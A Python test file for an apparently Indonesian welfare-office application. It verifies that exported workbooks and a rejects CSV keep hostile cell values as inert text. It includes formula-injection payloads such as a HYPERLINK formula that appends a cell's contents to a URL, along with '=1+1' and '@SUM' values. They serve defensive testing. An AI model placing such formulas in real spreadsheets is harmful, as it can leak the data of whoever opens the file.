"""Files that leave the office cannot attack their reader: a hostile name, address or reason
in the pre-list workbook, the ranking workbook or the DTKS rejects CSV stays inert text (never a
formula) and exactly as typed; the rejects CSV is neutralised the OWASP way and owner-only."""

from __future__ import annotations

import csv
import io
import os
from dataclasses import replace
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from kiosk.clock import Clock
from kiosk.ranking import Candidate, rank
from kiosk.roles import Role
from kiosk.services.people import PersonInput, register_person
from kiosk.services.walk_in import CaptureInput, record_walk_in
from printing.cells import RISKY_START
from tests.conftest import PASSWORD
from ui.cli import main
from ui.ranking_files import write_ranking

LINK = '=HYPERLINK("http://127.0.0.1/x?"&O2,"Klik")'
HOSTILE = (LINK, "+62 812", "-1+1", "@SUM(1+1)", "\tTab", "\rCR")
WIB = ZoneInfo("Asia/Jakarta")
CLOCK = Clock(frozen=datetime(2026, 11, 10, 9, 0, tzinfo=WIB))


def every_cell(path_or_bytes):
    """(sheet, cell) of every cell of the workbook as openpyxl reads it back."""
    data = path_or_bytes if isinstance(path_or_bytes, bytes) else path_or_bytes.read_bytes()
    wb = load_workbook(io.BytesIO(data))
    return [(ws.title, c) for ws in wb.worksheets for r in ws.iter_rows() for c in r]


def assert_inert(path_or_bytes) -> list:
    cells = every_cell(path_or_bytes)
    formulas = [(t, c.coordinate, c.value) for t, c in cells if c.data_type == "f"]
    assert formulas == []
    risky = [c for _, c in cells if isinstance(c.value, str) and c.value.startswith(RISKY_START)]
    assert all(c.quotePrefix for c in risky)  # stays text when an officer edits the cell
    return [c.value for _, c in cells]


def _propose(gateway, fo, name, address, reason):
    person = gateway.call(
        register_person,
        fo,
        PersonInput(
            name=name,
            nik="3324011508800001",
            no_kk="3324010101200003",
            birth_date=date(1980, 8, 15),
            sex="L",
            relationship="kepala_keluarga",
            address=address,
            rt="3",
            rw="1",
            mother_name="@Siti",
            override_reason="uji",
        ),
        CLOCK,
    )
    gateway.call(
        record_walk_in,
        fo,
        CaptureInput(
            person_id=person.id,
            category="belum_terdaftar",
            description="Belum terdaftar",
            propose_prelist=True,
            prelist_reason=reason,
        ),
        CLOCK,
    )


def test_the_prelist_workbook_holds_hostile_text_as_text(ctx, gateway, office, tmp_path):
    _propose(gateway, office[Role.FRONT_OFFICE], LINK, "-Jl. Melati", "+Buruh harian")
    out = tmp_path / "usulan"
    os.environ["PUSKESOS_PASSWORD"] = PASSWORD
    try:
        who = ["--as", office[Role.COORDINATOR].username]
        db = ["--db", ctx.url, "--data-dir", str(ctx.paths.data_dir)]
        code = main(["usulan", "2026-11", "--out", str(out), *who, *db])
    finally:
        del os.environ["PUSKESOS_PASSWORD"]
    assert code == 0
    values = assert_inert(out / "usulan-2026-11.xlsx")
    # Exactly as typed: SIKS-NG data entry is typed from this file.
    assert {LINK, "-Jl. Melati", "+Buruh harian", "@Siti"} <= set(values)
    assert "3324011508800001" in values


def _household(key: str, head: str) -> Candidate:
    return Candidate(key, head, "3324011508800001", key, 2, 4, 1, 0, 0, 0, False, frozenset(), True)


def test_the_ranking_workbook_holds_hostile_names_as_text(ctx, office, tmp_path):
    heads = [_household(f"33240101012000{i:02d}", name) for i, name in enumerate(HOSTILE)]
    excluded = replace(_household("3324010101200099", "=1+1"), decile=None)
    ranking = rank([*heads, excluded], "PKH", 2)
    _pdf, xlsx = write_ranking(ranking, _site(ctx), tmp_path, date(2026, 11, 10))
    values = assert_inert(xlsx)
    # XML reads a raw CR back as a line feed; the text is otherwise exactly the name.
    assert {h.replace("\r", "\n") for h in HOSTILE} | {"=1+1"} <= set(values)
    assert 1 in values and 2 in values  # ranks stay numbers


def _site(ctx):
    from kiosk.services.setup import require_site

    with ctx.sessions() as s:
        return require_site(s)


def test_the_rejects_csv_is_neutralised_and_owner_only(ctx, office, tmp_path, capsys):
    src = tmp_path / "dtsen.csv"
    src.write_text(
        "nomor_induk_kependudukan;nama;nomor_kartu_keluarga;desil_nasional;pkh\n"
        "3324015708900003;Siti Fatimah;3324011203150007;2;1\n"
        f"{LINK.replace(';', ',')};Serang;3324011203150007;2;0\n"
        "+6281234;Plus;3324011203150007;2;0\n"
        "-1+1;Minus;3324011203150007;2;0\n"
        "@SUM(1);At;3324011203150007;2;0\n",
        encoding="utf-8",
    )
    rejects = tmp_path / "ditolak.csv"
    who = ["--as", "admin", "--as-password", PASSWORD]
    report = ["--json", "--date", "2026-10-08", "--report", str(rejects)]
    code = main(["--db", ctx.url, "dtks", "import", str(src), *who, *report])
    capsys.readouterr()
    assert code == 0
    if os.name == "posix":
        assert rejects.stat().st_mode & 0o777 == 0o600
    raw = rejects.read_text(encoding="utf-8")
    lines = raw.splitlines()
    assert all(f.startswith('"') for line in lines for f in line.split('","')[:1])
    rows = list(csv.reader(io.StringIO(raw)))
    assert rows[0] == ["baris", "alasan", "nilai"] and len(rows) == 5
    for cells in rows:
        for cell in cells:
            assert not cell.startswith(RISKY_START), cell  # a spreadsheet reads them as text
    values = [r[2] for r in rows[1:]]
    assert any(v.startswith("'=HYPERLINK") for v in values)
    assert any(v.startswith("'+6281234") for v in values)


@pytest.mark.parametrize("value", HOSTILE)
def test_one_rule_for_every_csv_cell(value):
    from printing.cells import csv_bytes

    (cell,) = list(csv.reader(io.StringIO(csv_bytes(["x"], [[value]]).decode())))[1]
    assert cell == "'" + value


def test_every_spreadsheet_writer_goes_through_the_one_rule():
    """A new workbook or CSV export cannot forget the rule: it saves through printing.cells."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    sources = [
        p
        for package in ("kiosk", "printing", "ui", "sync", "kabupaten")
        for p in (root / package).rglob("*.py")
    ]
    rule = root / "printing" / "cells.py"
    for path in sources:
        text = path.read_text(encoding="utf-8")
        if path == rule:
            continue
        assert "csv.writer(" not in text and "DictWriter(" not in text, path
        if "Workbook()" in text:
            assert "workbook_bytes(" in text and ".save(" not in text, path
